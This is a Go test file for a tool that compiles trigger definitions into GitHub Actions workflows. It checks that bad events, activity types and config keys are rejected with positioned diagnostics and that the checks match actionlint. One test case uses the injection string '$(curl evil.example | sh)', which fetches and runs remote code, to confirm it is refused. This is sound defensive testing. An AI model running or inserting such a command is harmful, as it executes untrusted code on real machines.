package ghactions

import (
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/rhysd/actionlint"
	"gopkg.in/yaml.v3"

	"github.com/autonomyhq/autonomy/ir"
)

// TestLostTriggerIsError: a trigger GitHub cannot carry as written (a mistyped event, an
// activity type or config key GitHub does not know, an expression under on:, the events cron
// and dispatch compile to) would leave the actor without a trigger it declared. That is an
// error at the offending value, with the fix, and nothing is compiled.
func TestLostTriggerIsError(t *testing.T) {
	cases := []struct {
		trigger string
		pos     string // line:col of the diagnostic in the profile
		want    []string
	}{
		{"      - event: pull-request\n", "8:16",
			[]string{`GitHub Actions knows no event "pull-request"`, `did you mean "pull_request"?`}},
		{"      - event: isues\n", "8:16",
			[]string{`knows no event "isues"`, `did you mean "issues"?`}},
		{"      - { event: pull_request_target, config: { types: [open] } }\n", "8:57",
			[]string{`GitHub has no pull_request_target activity type "open"`, `did you mean "opened"?`}},
		{"      - event: pull_request_target\n        config:\n          types: [opened, synchronise]\n", "10:27",
			[]string{`activity type "synchronise"`, `did you mean "synchronize"?`}},
		{"      - event: issues\n        config: { types: labeld }\n", "9:26",
			[]string{`GitHub has no issues activity type "labeld"`, `did you mean "labeled"?`}},
		{"      - event: issues\n        config: { types: [frobnicated] }\n", "9:27",
			[]string{`GitHub has no issues activity type "frobnicated"`, "valid: opened, edited,"}},
		{"      - event: push\n        config: { branch: [main] }\n", "9:19",
			[]string{`GitHub accepts no config key "branch"`, `did you mean "branches"?`}},
		{"      - event: issue_comment\n        config: { types: [\"${{ github.event.issue.title }}\"] }\n", "9:27",
			[]string{`GitHub evaluates no expression under on:`}},
		{"      - event: issues\n        config: { types: [opened, \"$(curl evil.example | sh)\"] }\n", "9:35",
			[]string{`GitHub has no issues activity type "$(curl evil.example | sh)"`, "valid: opened, edited,"}},
		{"      - { event: issue_comment, config: { plain_comments: yes please } }\n", "8:59",
			[]string{`plain_comments must be true or false`}},
		{"      - { event: issues, config: { plain_comments: true } }\n", "8:36",
			[]string{`plain_comments is a key of issue_comment triggers only`}},
		{"      - event: workflow_dispatch\n", "8:16",
			[]string{`event "workflow_dispatch" is what autonomy compiles cron and dispatch triggers to`, "write dispatch: true instead"}},
		{"      - event: schedule\n", "8:16",
			[]string{`event "schedule"`, `write cron: "…" instead`}},
	}
	for _, c := range cases {
		// A dispatch trigger beside the bad one: losing one of several triggers is an error too.
		_, err := compileErr(t, agent("", c.trigger+"      - dispatch: true\n"))
		var diags ir.Diagnostics
		if !errors.As(err, &diags) || !diags.HasErrors() {
			t.Errorf("%q: compiled (err %v); want an error", c.trigger, err)
			continue
		}
		got := diags.String()
		for _, w := range append(c.want, "ir.yml:"+c.pos+`: actor "a": `) {
			if !strings.Contains(got, w) {
				t.Errorf("%q: no %q in:\n%s", c.trigger, w, got)
			}
		}
	}
}

// TestConfigPerEvent: a config key GitHub does not take on the event (a filter of other events,
// types on an event without activity types), an empty list, a filter beside its -ignore form and
// workflow_run without workflows are errors at the key or value, listing the event's valid keys.
func TestConfigPerEvent(t *testing.T) {
	cases := []struct {
		trigger string
		pos     string
		want    []string
	}{
		{"      - event: push\n        config: { types: [opened] }\n", "9:19",
			[]string{`GitHub has no activity types for push, so it refuses types`, "valid keys for push: branches, branches-ignore, tags, tags-ignore, paths, paths-ignore"}},
		{"      - event: issues\n        config: { branches: [main] }\n", "9:19",
			[]string{`GitHub has no "branches" filter for issues (only for merge_group, push, pull_request, pull_request_target, workflow_run)`, "valid keys for issues: types"}},
		{"      - event: push\n        config: { workflows: [ci] }\n", "9:19",
			[]string{`GitHub has no "workflows" filter for push (only for workflow_run)`}},
		{"      - event: issues\n        config: { types: [] }\n", "9:26",
			[]string{`types is empty, and GitHub refuses an empty types`}},
		{"      - event: pull_request\n        config: { paths: }\n", "9:19",
			[]string{`paths is empty`}},
		{"      - event: create\n        config: { paths-ignore: [docs/**] }\n", "9:19",
			[]string{`GitHub has no "paths-ignore" filter for create`, "create takes no config: remove it"}},
		{"      - event: issues\n        config: { branch: [main] }\n", "9:19",
			[]string{`GitHub accepts no config key "branch"`, "valid keys for issues: types"}},
		{"      - event: issue_comment\n        config: { typs: [created] }\n", "9:19",
			[]string{`GitHub accepts no config key "typs"`, `did you mean "types"?`}},
		{"      - event: push\n        config: { branches: [main], branches-ignore: [x] }\n", "9:37",
			[]string{`GitHub refuses branches and branches-ignore on one event`}},
		{"      - event: workflow_run\n", "8:16",
			[]string{`it names no workflows`, "add config: { workflows: [NAME] }"}},
		{"      - event: workflow_run\n        config: { types: [completed] }\n", "9:17",
			[]string{`it names no workflows`, "add workflows: [NAME]"}},
		{"      - event: workflow_run\n        config: { workflows: [ci], tags: [v1] }\n", "9:36",
			[]string{`GitHub has no "tags" filter for workflow_run (only for push)`, "valid keys for workflow_run: types, branches, branches-ignore, workflows"}},
	}
	for _, c := range cases {
		_, err := compileErr(t, agent("", c.trigger+"      - dispatch: true\n"))
		var diags ir.Diagnostics
		if !errors.As(err, &diags) || !diags.HasErrors() {
			t.Errorf("%q: compiled (err %v); want an error", c.trigger, err)
			continue
		}
		got := diags.String()
		for _, w := range append(c.want, "ir.yml:"+c.pos+`: actor "a": `) {
			if !strings.Contains(got, w) {
				t.Errorf("%q: no %q in:\n%s", c.trigger, w, got)
			}
		}
	}
}

// TestConfigAgreesWithActionlint: for every event autonomy may trigger on and every config key,
// a filled and an empty value, autonomy refuses the config exactly when actionlint's events rule
// (or its parser) refuses the same on: section.
func TestConfigAgreesWithActionlint(t *testing.T) {
	for _, ev := range eventNames() {
		if ev == "schedule" || ev == "workflow_dispatch" || ev == "workflow_call" {
			continue // refused as events (TestLostTriggerIsError), or parsed apart by actionlint
		}
		for _, key := range configKeys {
			value := "x"
			if types := events[ev]; key == "types" && len(types) > 0 {
				value = types[0]
			}
			for _, list := range []string{"[" + value + "]", "[]"} {
				body := key + ": " + list
				if ev == "workflow_run" && key != "workflows" {
					body += ", workflows: [ci]"
				}
				var n yaml.Node
				if err := yaml.Unmarshal([]byte("{"+body+"}"), &n); err != nil {
					t.Fatal(err)
				}
				ours := configProblem(ev, n.Content[0]) != nil
				theirs := actionlintRefuses(t, "on:\n  "+ev+": {"+body+"}\n")
				if ours != theirs {
					t.Errorf("on: %s: {%s}: autonomy refuses: %v, actionlint refuses: %v (%v)", ev, body, ours, theirs, configProblem(ev, n.Content[0]))
				}
			}
		}
	}
}

// actionlintRefuses reports whether actionlint finds an error in the on: section of a workflow.
func actionlintRefuses(t *testing.T, on string) bool {
	t.Helper()
	l, err := actionlint.NewLinter(io.Discard, &actionlint.LinterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	src := on + "jobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo\n"
	errs, err := l.Lint("w.yml", []byte(src), nil)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Count(on, "\n")
	for _, e := range errs {
		if e.Line <= lines {
			return true
		}
	}
	return false
}
